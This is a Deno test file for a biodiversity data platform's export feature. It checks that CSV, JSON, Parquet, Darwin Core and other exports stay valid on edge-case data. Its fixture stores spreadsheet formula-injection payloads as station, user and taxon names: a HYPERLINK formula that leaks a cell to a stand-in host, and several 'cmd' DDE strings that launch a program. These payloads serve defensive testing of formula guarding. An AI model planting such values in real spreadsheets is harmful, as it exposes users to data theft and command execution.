/**
 * Issue 12: every file stays valid and truthful on hostile and edge-case data. A fixture project
 * with several instances of each kind (text that would break its container, ids past 2^53,
 * impossible or partial coordinates, cells that spreadsheets would run as formulas, accents for
 * Excel) is exported in every registered format through the API, a real worker and storage,
 * with EXPORT_BATCH_SIZE=1, and each file is read back by independent readers: Python's csv and
 * strict json, str.splitlines, zipfile and python-dwca-reader, lxml against the EML 2.2.0 schema.
 */
import type { Sql } from "../db/client.ts";
import { getExporter, supportedFormats } from "../registry/mod.ts";
import { assert, assertEquals } from "./assert.ts";
import { readCamtrap } from "./camtrap.ts";
import { checkDwca, unzipText } from "./dwca.ts";
import { createUser } from "./fixtures/access.ts";
import { type Harness, startHarness } from "./harness.ts";
import { asCsvRows, readParquet } from "./parquet.ts";
import { EML_XSD, readWith } from "./readers.ts";
import { serviceTest } from "./support.ts";

/** Occurrence, detection and taxon ids past 2^53 (Number() turns …995 and …996 into one). */
const BIG = {
  taxon: "9007199254740993",
  o1: "9007199254740995",
  o2: "9007199254740996",
  d1: "9007199254740997",
  d2: "9007199254740998",
};

const NAMES = {
  hyperlink: '=HYPERLINK("http://x.invalid/?d="&A2,"map")',
  lines: "-Station\u2028two\u0085\tTab\r\nline",
  accents: "Écaille station",
  at: "@North",
  nonFinite: "NaN place",
  verifier: "+cmd|' /C calc'!A0",
  agreedWith: "@SUM(1+1)*cmd|' /C calc'!A0",
  /** `agreed_with_user` is the e-mail (antenna-compat §5.2, column 18): a hostile one. */
  agreedWithEmail: "=cmd|' /C calc'!A0@x.invalid",
  owner: "Owner\u0002 Écaille",
  project: "Night moths\u0002 =survey",
  description: "Pasted from Word\u0002\u000B with a form feed\u000C, U+FFFE \uFFFE and a line " +
    "separator\u2028 end",
  taxonBig: "-Noctua pronuba",
  taxonPlus: "+Agrotis",
};

interface Fixture {
  projectId: number;
  token: string;
  occurrenceIds: string[];
  detectionIds: string[];
  /** Detections of the first occurrence whose bbox is no box (`{}`, NaN, 3 or NULL elements). */
  boxlessDetectionIds: string[];
  deployments: Record<"hyperlink" | "lines" | "accents" | "at" | "nonFinite", string>;
  taxonPlus: string;
}

async function createFixture(sql: Sql): Promise<Fixture> {
  const tag = crypto.randomUUID().slice(0, 8);
  const [ownerId, token] = await createUser(sql, `owner-${tag}`);
  await sql`update users set name = ${NAMES.owner} where id = ${ownerId}`;
  const [verifier] = await createUser(sql, `verifier-${tag}`);
  await sql`update users set name = ${NAMES.verifier} where id = ${verifier}`;
  const [agreed] = await createUser(sql, `agreed-${tag}`);
  await sql`update users set name = ${NAMES.agreedWith}, email = ${NAMES.agreedWithEmail}
    where id = ${agreed}`;
  const insert = async (table: string, row: Record<string, unknown>): Promise<string> => {
    const [{ id }] = await sql<{ id: number | string }[]>`
      insert into ${sql(table)} ${sql(row)} returning id`;
    return String(id);
  };
  const projectId = Number(
    await insert("projects", {
      name: NAMES.project,
      slug: `hostile-${tag}`,
      description: NAMES.description,
      owner_id: ownerId,
    }),
  );
  const station = (name: string, latitude: number | null, longitude: number | null) =>
    insert("deployments", { project_id: projectId, name, latitude, longitude });
  const deployments = {
    hyperlink: await station(NAMES.hyperlink, 91, 10), // latitude out of range
    lines: await station(NAMES.lines, null, 5), // half a pair
    accents: await station(NAMES.accents, 1e-7, -2.5e-7), // valid, tiny: no exponent
    at: await station(NAMES.at, 45.5, -73.25), // valid
    nonFinite: await station(NAMES.nonFinite, NaN, Infinity), // not numbers
  };
  const taxonBig = await insert("taxa", { id: BIG.taxon, name: NAMES.taxonBig, rank: "SPECIES" });
  const taxonPlus = await insert("taxa", { name: NAMES.taxonPlus, rank: "GENUS" });
  const algorithm = await insert("algorithms", { name: "Moth classifier", key: `moth-${tag}` });

  const occurrenceIds: string[] = [];
  const detectionIds: string[] = [];
  const plan: [keyof typeof deployments, string, number, string?, string?][] = [
    ["accents", taxonPlus, 0.7],
    ["at", taxonPlus, 0.6],
    ["nonFinite", taxonBig, 0.5],
    ["hyperlink", taxonBig, 0.9, BIG.o1, BIG.d1],
    ["lines", taxonBig, 0.8, BIG.o2, BIG.d2],
  ];
  for (const [i, [key, taxon, score, occurrenceId, detectionId]] of plan.entries()) {
    const deployment = deployments[key];
    const start = new Date(Date.UTC(2024, 5, 1 + i, 21));
    const event = await insert("events", {
      project_id: projectId,
      deployment_id: deployment,
      start,
      end: new Date(start.getTime() + 8 * 3600_000),
    });
    const image = await insert("source_images", {
      project_id: projectId,
      deployment_id: deployment,
      event_id: event,
      path: `captures/${i}.jpg`,
      public_base_url: "https://cdn.example.org/",
      timestamp: new Date(start.getTime() + 3600_000),
    });
    const occurrence = await insert("occurrences", {
      ...(occurrenceId ? { id: occurrenceId } : {}),
      project_id: projectId,
      deployment_id: deployment,
      event_id: event,
      determination_id: taxon,
      determination_score: score,
    });
    const detection = await insert("detections", {
      ...(detectionId ? { id: detectionId } : {}),
      occurrence_id: occurrence,
      source_image_id: image,
      bbox: [1, 2, 30, 40],
      timestamp: new Date(start.getTime() + 3600_000),
      path: `crops/${i}.jpg`,
    });
    await insert("classifications", {
      detection_id: detection,
      taxon_id: taxon,
      algorithm_id: algorithm,
      score,
      terminal: true,
    });
    occurrenceIds.push(occurrence);
    detectionIds.push(detection);
  }
  // verified_by: the verifier; agreed_with_user: the other member, whom the verifier agrees with
  const [o3] = occurrenceIds;
  const first = await insert("identifications", {
    occurrence_id: o3,
    user_id: agreed,
    taxon_id: taxonPlus,
    created_at: new Date("2024-06-10T08:00:00Z"),
  });
  await insert("identifications", {
    occurrence_id: o3,
    user_id: verifier,
    taxon_id: taxonPlus,
    agreed_with_identification_id: first,
    created_at: new Date("2024-06-10T09:00:00Z"),
  });
  await insert("identifications", {
    occurrence_id: BIG.o1,
    user_id: verifier,
    taxon_id: taxonBig,
    created_at: new Date("2024-06-10T09:00:00Z"),
  });
  // Kind 1: boxes that hold no box. On a valid occurrence, scored above its real box (they would
  // win "best detection" if they counted); and one occurrence whose only detection is `{}`.
  const [capture] = await sql<{ id: string }[]>`
    select source_image_id::text as id from detections where id = ${detectionIds[0]}`;
  const boxlessDetectionIds: string[] = [];
  for (const bbox of ["{}", "{1,2,NaN,4}", "{1,2,3}", "{NULL,2,3,4}", "{1,2,Infinity,4}"]) {
    const [{ id }] = await sql<{ id: string }[]>`
      insert into detections (occurrence_id, source_image_id, bbox, timestamp, path)
      values (${o3}, ${capture.id}, ${bbox}::float8[], '2024-06-01T22:30:00Z', 'crops/x.jpg')
      returning id::text`;
    await insert("classifications", {
      detection_id: id,
      taxon_id: taxonPlus,
      algorithm_id: algorithm,
      score: 0.99,
      terminal: true,
    });
    boxlessDetectionIds.push(id);
  }
  // Kind 4: non-finite numbers are not scores. The "at" occurrence's detection gets NaN and
  // +Infinity classifications for another taxon (they would win every "highest score"); the
  // "nonFinite" occurrence's determination score is NaN.
  const [at, nonFinite] = [occurrenceIds[1], occurrenceIds[2]];
  for (const score of [NaN, Infinity]) {
    await insert("classifications", {
      detection_id: detectionIds[1],
      taxon_id: taxonBig,
      algorithm_id: algorithm,
      score,
      terminal: true,
    });
  }
  await sql`update occurrences set determination_score = 'NaN' where id = ${nonFinite}`;
  // a NaN bbox element on a real occurrence's extra detection is written as JSON null
  const [{ id: nanBox }] = await sql<{ id: string }[]>`
    insert into detections (occurrence_id, source_image_id, bbox, timestamp)
    select ${at}, source_image_id, '{1,NaN,3,4}', '2024-06-02T22:40:00Z'
    from detections where id = ${detectionIds[1]}
    returning id::text`;
  boxlessDetectionIds.push(nanBox);
  const [{ id: emptyOnly }] = await sql<{ id: string }[]>`
    insert into occurrences (project_id, deployment_id, determination_id, determination_score)
    values (${projectId}, ${deployments.at}, ${taxonPlus}, 0.9) returning id::text`;
  await sql`
    insert into detections (occurrence_id, source_image_id, bbox, timestamp)
    values (${emptyOnly}, ${capture.id}, '{}', '2024-06-01T22:30:00Z')`;
  return {
    projectId,
    token,
    occurrenceIds,
    detectionIds,
    boxlessDetectionIds,
    deployments,
    taxonPlus,
  };
}

async function exportFile(
  h: Harness,
  f: Fixture,
  format: string,
  extra: Record<string, unknown> = {},
): Promise<{ done: Record<string, unknown>; bytes: Uint8Array }> {
  const res = await h.api("POST", "/api/v2/exports/", {
    token: f.token,
    body: { project: f.projectId, format, filters: {}, force: true, ...extra },
  });
  const created = await res.json();
  assertEquals(res.status, 201, JSON.stringify(created));
  const done = await h.waitForExport(created.id as number, f.token, 120_000);
  assertEquals(done.status, "SUCCESS", JSON.stringify(done));
  const bytes = await h.download(done.file_url as string);
  assertEquals(done.file_size, bytes.length);
  return { done, bytes };
}

/** CSV rows as objects by header (Python's csv). */
async function csvRecords(
  bytes: Uint8Array,
): Promise<{ bom: boolean; rows: Record<string, string>[] }> {
  const read = await readWith("csv", bytes) as { bom: boolean; rows: string[][] };
  const [header, ...rows] = read.rows;
  return {
    bom: read.bom,
    rows: rows.map((r) => Object.fromEntries(header.map((name, i) => [name, r[i]]))),
  };
}

const BOM = [0xEF, 0xBB, 0xBF];

Deno.test({
  name: "issue 12: hostile data in every format, read back by independent readers",
  ...serviceTest,
  async fn(t) {
    const h = await startHarness({ storage: "fs", batchSize: 1 });
    try {
      const f = await createFixture(h.sql);
      const allIds = [...f.occurrenceIds].sort((a, b) => (BigInt(a) < BigInt(b) ? -1 : 1));
      const byDeployment = (key: keyof Fixture["deployments"]): string =>
        f.occurrenceIds[["accents", "at", "nonFinite", "hyperlink", "lines"].indexOf(key)];
      const exported: string[] = [];

      await t.step("ids past 2^53 come out of postgres.js exact", async () => {
        const rows = await h.sql<{ id: number | string }[]>`
          select id from occurrences where id = any(${f.occurrenceIds}::bigint[]) order by id`;
        assertEquals(rows.map((r) => String(r.id)), allIds);
        assertEquals(rows.slice(-2).map((r) => r.id), [BIG.o1, BIG.o2]);
      });

      await t.step(
        "occurrences_simple_csv: exact ids, formula-guarded text, BOM only on request",
        async () => {
          const { done, bytes } = await exportFile(h, f, "occurrences_simple_csv");
          exported.push("occurrences_simple_csv");
          assert(!BOM.every((b, i) => bytes[i] === b), "default output has a BOM");
          const { bom, rows } = await csvRecords(bytes);
          assertEquals(bom, false);
          assertEquals(done.record_count, 5);
          assertEquals(rows.length, 5);
          assertEquals(rows.map((r) => r.id), allIds);
          const row = (id: string): Record<string, string> => rows.find((r) => r.id === id)!;
          assertEquals(row(BIG.o1).deployment_name, "'" + NAMES.hyperlink);
          assertEquals(row(BIG.o1).verified_by, "'" + NAMES.verifier);
          assertEquals(row(BIG.o1).determination_name, "'" + NAMES.taxonBig);
          assertEquals(row(BIG.o2).deployment_name, "'" + NAMES.lines); // tabs, CR, LF kept
          assertEquals(row(f.occurrenceIds[0]).agreed_with_user, "'" + NAMES.agreedWithEmail);
          assertEquals(row(f.occurrenceIds[0]).deployment_name, NAMES.accents);
          // kind 1: the no-box detections (scored 0.99) neither count nor win best detection
          assertEquals(row(f.occurrenceIds[0]).best_detection_bbox, "[1, 2, 30, 40]");
          assertEquals(row(f.occurrenceIds[0]).best_detection_width, "29.0");
          assertEquals(row(f.occurrenceIds[0]).determination_name, "'" + NAMES.taxonPlus);
          assertEquals(row(byDeployment("at")).deployment_name, "'" + NAMES.at);
          assertEquals(row(BIG.o1).project_name, NAMES.project); // starts with N: unguarded
          assertEquals(row(BIG.o1).determination_score, "0.9"); // numbers stay numbers
          // kind 4: NaN is no score (empty), and NaN/Infinity classifications never win
          assertEquals(row(byDeployment("nonFinite")).determination_score, "");
          assertEquals(row(byDeployment("at")).best_machine_prediction_name, "'" + NAMES.taxonPlus);
          assertEquals(row(byDeployment("at")).best_machine_prediction_score, "0.6");
          // a NaN determination score never passes a numeric filter (NaN sorts above 1 in SQL)
          const filtered = await exportFile(h, f, "occurrences_simple_csv", {
            filters: { min_score: 0.5 },
          });
          const kept = (await csvRecords(filtered.bytes)).rows.map((r) => r.id);
          assertEquals(filtered.done.record_count, 4);
          assert(!kept.includes(byDeployment("nonFinite")), JSON.stringify(kept));

          // excel_compatible: the same bytes after a UTF-8 BOM
          const excel = await exportFile(h, f, "occurrences_simple_csv", {
            excel_compatible: true,
          });
          assertEquals(excel.done.excel_compatible, true);
          assertEquals(done.excel_compatible, false);
          assertEquals([...excel.bytes.slice(0, 3)], BOM);
          assertEquals(excel.bytes.slice(3), bytes);
          assertEquals((await csvRecords(excel.bytes)).bom, true);
          assertEquals(excel.done.record_count, 5);
        },
      );

      await t.step("occurrences_api_json: strict JSON, exact integer ids, exact text", async () => {
        const { done, bytes } = await exportFile(h, f, "occurrences_api_json");
        exported.push("occurrences_api_json");
        const docs = await readWith("json", bytes) as Record<string, unknown>[];
        assertEquals(done.record_count, docs.length);
        assertEquals(docs.map((d) => d.id), allIds); // integers in the file (ints_as_text)
        const o1 = docs.find((d) => d.id === BIG.o1)!;
        assertEquals((o1.deployment as { name: string }).name, NAMES.hyperlink);
        assertEquals((o1.determination as { id: string }).id, BIG.taxon);
        assertEquals((o1.detections as { id: string }[]).map((d) => d.id), [BIG.d1]);
        const o2 = docs.find((d) => d.id === BIG.o2)!;
        assertEquals((o2.deployment as { name: string }).name, NAMES.lines);
        // kind 4: null where a non-finite number was, never a string; NaN never the best
        const nan = docs.find((d) => d.id === byDeployment("nonFinite"))!;
        assertEquals(nan.determination_score, null);
        const at = docs.find((d) => d.id === byDeployment("at"))!;
        const best = at.determination_details as { prediction: { score: unknown } | null };
        assertEquals(best.prediction?.score, "0.6", JSON.stringify(best)); // floats read as text
        const scores = (at.predictions as { score: unknown }[]).map((p) => p.score);
        // predictions: each algorithm's top finite score only (NaN/Infinity classifications out)
        assertEquals(scores, ["0.6"]);
        const bboxes = (at.detections as { bbox: unknown }[]).map((d) => d.bbox);
        assert(
          // (the reader gives numbers as their text, so the NaN element shows as null here)
          bboxes.some((b) => JSON.stringify(b) === '["1",null,"3","4"]'),
          `NaN bbox element: ${JSON.stringify(bboxes)}`,
        );
        const text = new TextDecoder().decode(bytes);
        assert(text.includes(`"id" : ${BIG.o1},`) || text.includes(`"id":${BIG.o1}`), "id as text");
      });

      await t.step("occurrences_ndjson: one record per line for str.splitlines", async () => {
        const { done, bytes } = await exportFile(h, f, "occurrences_ndjson");
        exported.push("occurrences_ndjson");
        const text = new TextDecoder().decode(bytes);
        assert(!/[\u0085\u2028\u2029]/.test(text), "raw U+0085/U+2028/U+2029 in NDJSON");
        assert(text.includes("\\u2028") && text.includes("\\u0085"));
        const read = await readWith("ndjson", bytes) as {
          lines: string;
          records: Record<string, unknown>[];
        };
        assertEquals(Number(read.lines), 5);
        assertEquals(done.record_count, 5);
        assertEquals(read.records.map((d) => d.id), allIds);
        const o2 = read.records.find((d) => d.id === BIG.o2)!;
        assertEquals((o2.deployment as { name: string }).name, NAMES.lines);
      });

      await t.step("detections_csv: exact detection ids, guarded names, no-box rows", async () => {
        const { done, bytes } = await exportFile(h, f, "detections_csv");
        exported.push("detections_csv");
        const { rows } = await csvRecords(bytes);
        // every detection of an exported occurrence; the `{}`-only occurrence is not exported
        assertEquals(done.record_count, 11);
        assertEquals(rows.length, 11);
        assertEquals(
          rows.map((r) => r.detection_id).sort(),
          [...f.detectionIds, ...f.boxlessDetectionIds].sort(),
        );
        for (const id of f.boxlessDetectionIds) {
          const row = rows.find((r) => r.detection_id === id)!;
          assertEquals(
            [row.bbox, row.bbox_width, row.bbox_height],
            ["", "", ""],
            `detection ${id}`,
          );
        }
        const d1 = rows.find((r) => r.detection_id === BIG.d1)!;
        assertEquals(d1.occurrence_id, BIG.o1);
        assertEquals(d1.determination_name, "'" + NAMES.taxonBig);
        assertEquals(d1.top_classification_score, "0.9");
        assertEquals(rows.find((r) => r.detection_id === BIG.d2)!.occurrence_id, BIG.o2);
        const excel = await exportFile(h, f, "detections_csv", { excel_compatible: true });
        assertEquals(excel.bytes.slice(3), bytes);
      });

      await t.step("taxa_list_csv: exact taxon ids, guarded names", async () => {
        const { done, bytes } = await exportFile(h, f, "taxa_list_csv");
        exported.push("taxa_list_csv");
        const { rows } = await csvRecords(bytes);
        assertEquals(done.record_count, 2);
        assertEquals(rows.map((r) => r.taxon_id), [f.taxonPlus, BIG.taxon]);
        assertEquals(rows.map((r) => r.taxon_name), ["'" + NAMES.taxonPlus, "'" + NAMES.taxonBig]);
        assertEquals(rows.map((r) => r.occurrence_count), ["2", "3"]);
        const excel = await exportFile(h, f, "taxa_list_csv", { excel_compatible: true });
        assertEquals([...excel.bytes.slice(0, 3)], BOM);
        assertEquals(excel.bytes.slice(3), bytes);
      });

      await t.step("tracks_csv: exact ids, guarded names", async () => {
        const { done, bytes } = await exportFile(h, f, "tracks_csv");
        exported.push("tracks_csv");
        const { rows } = await csvRecords(bytes);
        assertEquals(done.record_count, 5);
        assertEquals(rows.map((r) => r.detection_id).sort(), [...f.detectionIds].sort());
        const d1 = rows.find((r) => r.detection_id === BIG.d1)!;
        assertEquals([d1.occurrence_id, d1.determination_id], [BIG.o1, BIG.taxon]);
        assertEquals([d1.determination_name, d1.classification_label], [
          "'" + NAMES.taxonBig,
          "'" + NAMES.taxonBig,
        ]);
        const excel = await exportFile(h, f, "tracks_csv", { excel_compatible: true });
        assertEquals(excel.bytes.slice(3), bytes);
      });

      await t.step("detections_coco: strict JSON, exact integer ids, exact text", async () => {
        const { done, bytes } = await exportFile(h, f, "detections_coco");
        exported.push("detections_coco");
        const coco = await readWith("json", bytes) as {
          info: { description: string; contributor: string };
          categories: { id: string; name: string }[];
          annotations: { id: string; category_id: string; occurrence_id: string }[];
          images: unknown[];
        };
        assertEquals(done.record_count, 5);
        assertEquals(coco.images.length, 5);
        assertEquals(coco.info.description, NAMES.project);
        assertEquals(coco.info.contributor, NAMES.owner);
        assertEquals(coco.categories.map((c) => [c.id, c.name]), [
          [f.taxonPlus, NAMES.taxonPlus],
          [BIG.taxon, NAMES.taxonBig],
        ]);
        const d1 = coco.annotations.find((a) => a.id === BIG.d1)!;
        assertEquals([d1.category_id, d1.occurrence_id], [BIG.taxon, BIG.o1]);
      });

      await t.step(
        "occurrences_parquet: exact int64 ids, exact text, the CSV's values",
        async () => {
          const { done, bytes } = await exportFile(h, f, "occurrences_parquet");
          exported.push("occurrences_parquet");
          const read = await readParquet(bytes);
          assertEquals(done.record_count, 5);
          assertEquals(read.pyarrow.row_groups.map(Number), [1, 1, 1, 1, 1]); // batch size 1
          for (const rows of [read.pyarrow.rows, read.duckdb.rows]) {
            assertEquals(rows.map((r) => r.id), allIds); // past 2^53: int64, exact
            const o1 = rows.find((r) => r.id === BIG.o1)!;
            assertEquals(o1.determination_id, BIG.taxon);
            assertEquals(o1.deployment_name, NAMES.hyperlink); // exact, no formula guard
            assertEquals(rows.find((r) => r.id === BIG.o2)!.deployment_name, NAMES.lines);
          }
          // every value equals the simple CSV's cell (the CSV guards text against formulas)
          const csv = await csvRecords((await exportFile(h, f, "occurrences_simple_csv")).bytes);
          assertEquals(asCsvRows(read.pyarrow.rows), csv.rows);
          assertEquals(asCsvRows(read.duckdb.rows), csv.rows);
        },
      );

      await t.step("camtrap_dp: frictionless-valid, stations without WGS84 left out", async () => {
        const { done, bytes } = await exportFile(h, f, "camtrap_dp");
        exported.push("camtrap_dp");
        const report = await readCamtrap(bytes);
        assertEquals(report.errors, []);
        assertEquals(report.profile_errors, []);
        // only the two stations with a valid pair (accents, at) and their occurrences
        assertEquals(done.record_count, 2);
        assertEquals(report.levels, { event: 2, media: 2 }); // the no-box detections: none
        const d = f.deployments;
        assertEquals(
          report.tables.deployments.map((r) => [r.deploymentID, r.latitude, r.longitude]),
          [[d.accents, "0.0000001", "-0.00000025"], [d.at, "45.5", "-73.25"]],
        );
        // exact text, no formula guard
        assertEquals(report.tables.deployments.map((r) => r.locationName), [
          NAMES.accents,
          NAMES.at,
        ]);
        assertEquals(
          report.tables.observations.filter((o) => o.observationLevel === "event").map((o) =>
            o.eventID
          ),
          f.occurrenceIds.slice(0, 2),
        );
        const descriptor = report.descriptor as {
          title: string;
          contributors: { title: string }[];
          taxonomic: { scientificName: string }[];
        };
        assertEquals(descriptor.title, NAMES.project);
        assertEquals(descriptor.contributors[0].title, NAMES.owner);
        assertEquals(descriptor.taxonomic.map((t) => t.scientificName), [NAMES.taxonPlus]);
      });

      await t.step("sessions_csv: WGS84 or nothing, guarded names", async () => {
        const { done, bytes } = await exportFile(h, f, "sessions_csv");
        exported.push("sessions_csv");
        const { rows } = await csvRecords(bytes);
        assertEquals(done.record_count, 5);
        const byStation = new Map(rows.map((r) => [r.deployment_id, r]));
        const d = f.deployments;
        assertEquals(byStation.get(d.hyperlink)!.deployment_name, "'" + NAMES.hyperlink);
        assertEquals(byStation.get(d.lines)!.deployment_name, "'" + NAMES.lines);
        assertEquals(byStation.get(d.at)!.deployment_name, "'" + NAMES.at);
        const pairs = [d.hyperlink, d.lines, d.accents, d.at, d.nonFinite].map((id) => {
          const r = byStation.get(id)!;
          return [r.latitude, r.longitude];
        });
        assertEquals(pairs, [["", ""], ["", ""], ["0.0000001", "-0.00000025"], [
          "45.5",
          "-73.25",
        ], ["", ""]]);
        const excel = await exportFile(h, f, "sessions_csv", { excel_compatible: true });
        assertEquals(excel.bytes.slice(3), bytes);
      });

      await t.step("deployments_csv: WGS84 or nothing, guarded names", async () => {
        const { done, bytes } = await exportFile(h, f, "deployments_csv");
        exported.push("deployments_csv");
        const { rows } = await csvRecords(bytes);
        assertEquals(done.record_count, 5);
        const byStation = new Map(rows.map((r) => [r.deployment_id, r]));
        const d = f.deployments;
        const stations = [d.hyperlink, d.lines, d.accents, d.at, d.nonFinite];
        assertEquals(stations.map((id) => byStation.get(id)!.deployment_name), [
          "'" + NAMES.hyperlink,
          "'" + NAMES.lines,
          NAMES.accents,
          "'" + NAMES.at,
          NAMES.nonFinite,
        ]);
        assertEquals(
          stations.map((id) => [byStation.get(id)!.latitude, byStation.get(id)!.longitude]),
          [["", ""], ["", ""], ["0.0000001", "-0.00000025"], ["45.5", "-73.25"], ["", ""]],
        );
        const excel = await exportFile(h, f, "deployments_csv", { excel_compatible: true });
        assertEquals(excel.bytes.slice(3), bytes);
      });

      await t.step("captures_csv and taxon_counts_csv: exact ids, guarded names", async () => {
        const captures = await exportFile(h, f, "captures_csv");
        exported.push("captures_csv");
        const { rows } = await csvRecords(captures.bytes);
        assertEquals(captures.done.record_count, 5);
        assertEquals(rows.map((r) => r.occurrences_count), ["1", "1", "1", "1", "1"]);
        const counts = await exportFile(h, f, "taxon_counts_csv");
        exported.push("taxon_counts_csv");
        const { rows: groups } = await csvRecords(counts.bytes);
        assertEquals(counts.done.record_count, 5);
        assertEquals(
          groups.map((r) => r.taxon_id).sort(),
          [
            ...[BIG.taxon, BIG.taxon, BIG.taxon, f.taxonPlus, f.taxonPlus],
          ].sort(),
        );
        assertEquals(
          groups.find((r) => r.taxon_id === BIG.taxon)!.species_name,
          "'" + NAMES.taxonBig,
        );
        const excel = await exportFile(h, f, "taxon_counts_csv", { excel_compatible: true });
        assertEquals(excel.bytes.slice(3), counts.bytes);
      });

      await t.step("dwca: valid EML 2.2.0, WGS84 or nothing, exact ids, exact text", async () => {
        const { done, bytes } = await exportFile(h, f, "dwca");
        exported.push("dwca");
        const report = await checkDwca(bytes);
        assertEquals(report.testzip, null);
        assertEquals(done.record_count, 5);
        assertEquals(report.files["occurrence.txt"].rows, 5);
        assertEquals(report.files["event.txt"].rows, 5);
        assertEquals(report.duplicate_core_ids, 0);
        assertEquals(report.reader.core_rows, 5);
        for (const ext of Object.values(report.reader.extensions)) {
          assertEquals(ext.rows, ext.linked);
        }

        const eml = await unzipText(bytes, "eml.xml");
        const read = await readWith("xml", eml, { xsd: EML_XSD }) as {
          valid: boolean;
          errors: string[];
          texts: string[];
        };
        assertEquals(read.errors, []);
        assertEquals(read.valid, true);
        assert(read.texts.includes("Night moths =survey"), JSON.stringify(read.texts));
        const abstract = read.texts.find((s) => s.startsWith("Pasted from Word"))!;
        assertEquals(
          abstract,
          "Pasted from Word with a form feed, U+FFFE  and a line separator\u2028 end",
        );
        assert(read.texts.includes("Owner Écaille"));
        // bounding box of the two valid pairs only, as plain decimals
        assertEquals(report.eml_bounds, {
          westBoundingCoordinate: -73.25,
          eastBoundingCoordinate: -2.5e-7,
          northBoundingCoordinate: 45.5,
          southBoundingCoordinate: 1e-7,
        });
        assert(eml.includes("<southBoundingCoordinate>0.0000001</southBoundingCoordinate>"));
        assert(eml.includes("<eastBoundingCoordinate>-0.00000025</eastBoundingCoordinate>"));
        const meta = await readWith("xml", await unzipText(bytes, "meta.xml")) as {
          texts: string[];
        };
        assert(meta.texts.includes("event.txt"));

        const events = await readWith("tsv", await unzipText(bytes, "event.txt")) as {
          rows: string[][];
        };
        const [header, ...rows] = events.rows;
        const col = (row: string[], name: string): string => row[header.indexOf(name)];
        const byLocation = (id: string): string[] => rows.find((r) => col(r, "locationID") === id)!;
        const pair = (id: string): string[] =>
          ["decimalLatitude", "decimalLongitude", "geodeticDatum"].map((n) =>
            col(byLocation(id), n)
          );
        assertEquals(pair(f.deployments.hyperlink), ["", "", ""]);
        assertEquals(pair(f.deployments.lines), ["", "", ""]);
        assertEquals(pair(f.deployments.nonFinite), ["", "", ""]);
        assertEquals(pair(f.deployments.accents), ["0.0000001", "-0.00000025", "EPSG:4326"]);
        assertEquals(pair(f.deployments.at), ["45.5", "-73.25", "EPSG:4326"]);
        // the archive keeps exact values (no formula guard); TSV turns tabs and breaks to spaces
        assertEquals(col(byLocation(f.deployments.hyperlink), "locality"), NAMES.hyperlink);
        assertEquals(
          col(byLocation(f.deployments.lines), "locality"),
          "-Station\u2028two\u0085 Tab line",
        );
        const occ = await readWith("tsv", await unzipText(bytes, "occurrence.txt")) as {
          rows: string[][];
        };
        const occHeader = occ.rows[0];
        const ids = occ.rows.slice(1).map((r) => r[occHeader.indexOf("occurrenceID")]);
        assertEquals(ids, allIds);
        const o1 = occ.rows.find((r) => r[occHeader.indexOf("occurrenceID")] === BIG.o1)!;
        assertEquals(o1[occHeader.indexOf("identifiedBy")], NAMES.verifier);
        assertEquals(o1[occHeader.indexOf("scientificName")], NAMES.taxonBig);
      });

      await t.step("every registered format was checked; the option is CSV-only", async () => {
        // the image formats fetch source images over HTTP from allowed hosts, which this
        // fixture's captures are not on: registry/formats/crops_by_taxon_test.ts (names made
        // filesystem-safe, every skip listed) and registry/formats/yolo_dataset_test.ts (names
        // in data.yaml read back by PyYAML) cover them with images served by moto
        assertEquals(
          [...exported].sort(),
          supportedFormats().filter((f) => !getExporter(f)?.fetchesImages),
        );
        const res = await h.api("POST", "/api/v2/exports/", {
          token: f.token,
          body: {
            project: f.projectId,
            force: true,
            format: "occurrences_api_json",
            filters: {},
            excel_compatible: true,
          },
        });
        assertEquals(res.status, 400, await res.clone().text());
        const formats = await h.api("GET", "/api/v2/exports/formats/", { token: f.token });
        const list = (await formats.json()).results as {
          key: string;
          accepted_options: string[];
        }[];
        for (const format of list) {
          const csv = [
            "occurrences_simple_csv",
            "detections_csv",
            "taxa_list_csv",
            "tracks_csv",
            "sessions_csv",
            "captures_csv",
            "taxon_counts_csv",
            "deployments_csv",
          ];
          const split = ["split", "split_by", "split_seed"];
          const images = format.key === "crops_by_taxon"
            ? [
              ...split,
              "crop_padding",
              "jpeg_quality",
              "max_skipped_fraction",
              "per_taxon_limit",
              "image_max_side",
            ]
            : format.key === "yolo_dataset"
            ? [...split, "jpeg_quality", "image_max_side", "max_skipped_fraction"]
            : format.key === "detections_coco"
            ? ["include_images", "max_skipped_fraction"]
            : [];
          // the keyset-CSV formats also choose columns (all CSV formats but the original's)
          const columns = format.key === "occurrences_simple_csv" ? [] : ["columns"];
          assertEquals(
            format.accepted_options,
            csv.includes(format.key) ? ["excel_compatible", ...columns] : images,
          );
        }
      });
    } finally {
      await h.close();
    }
  },
});
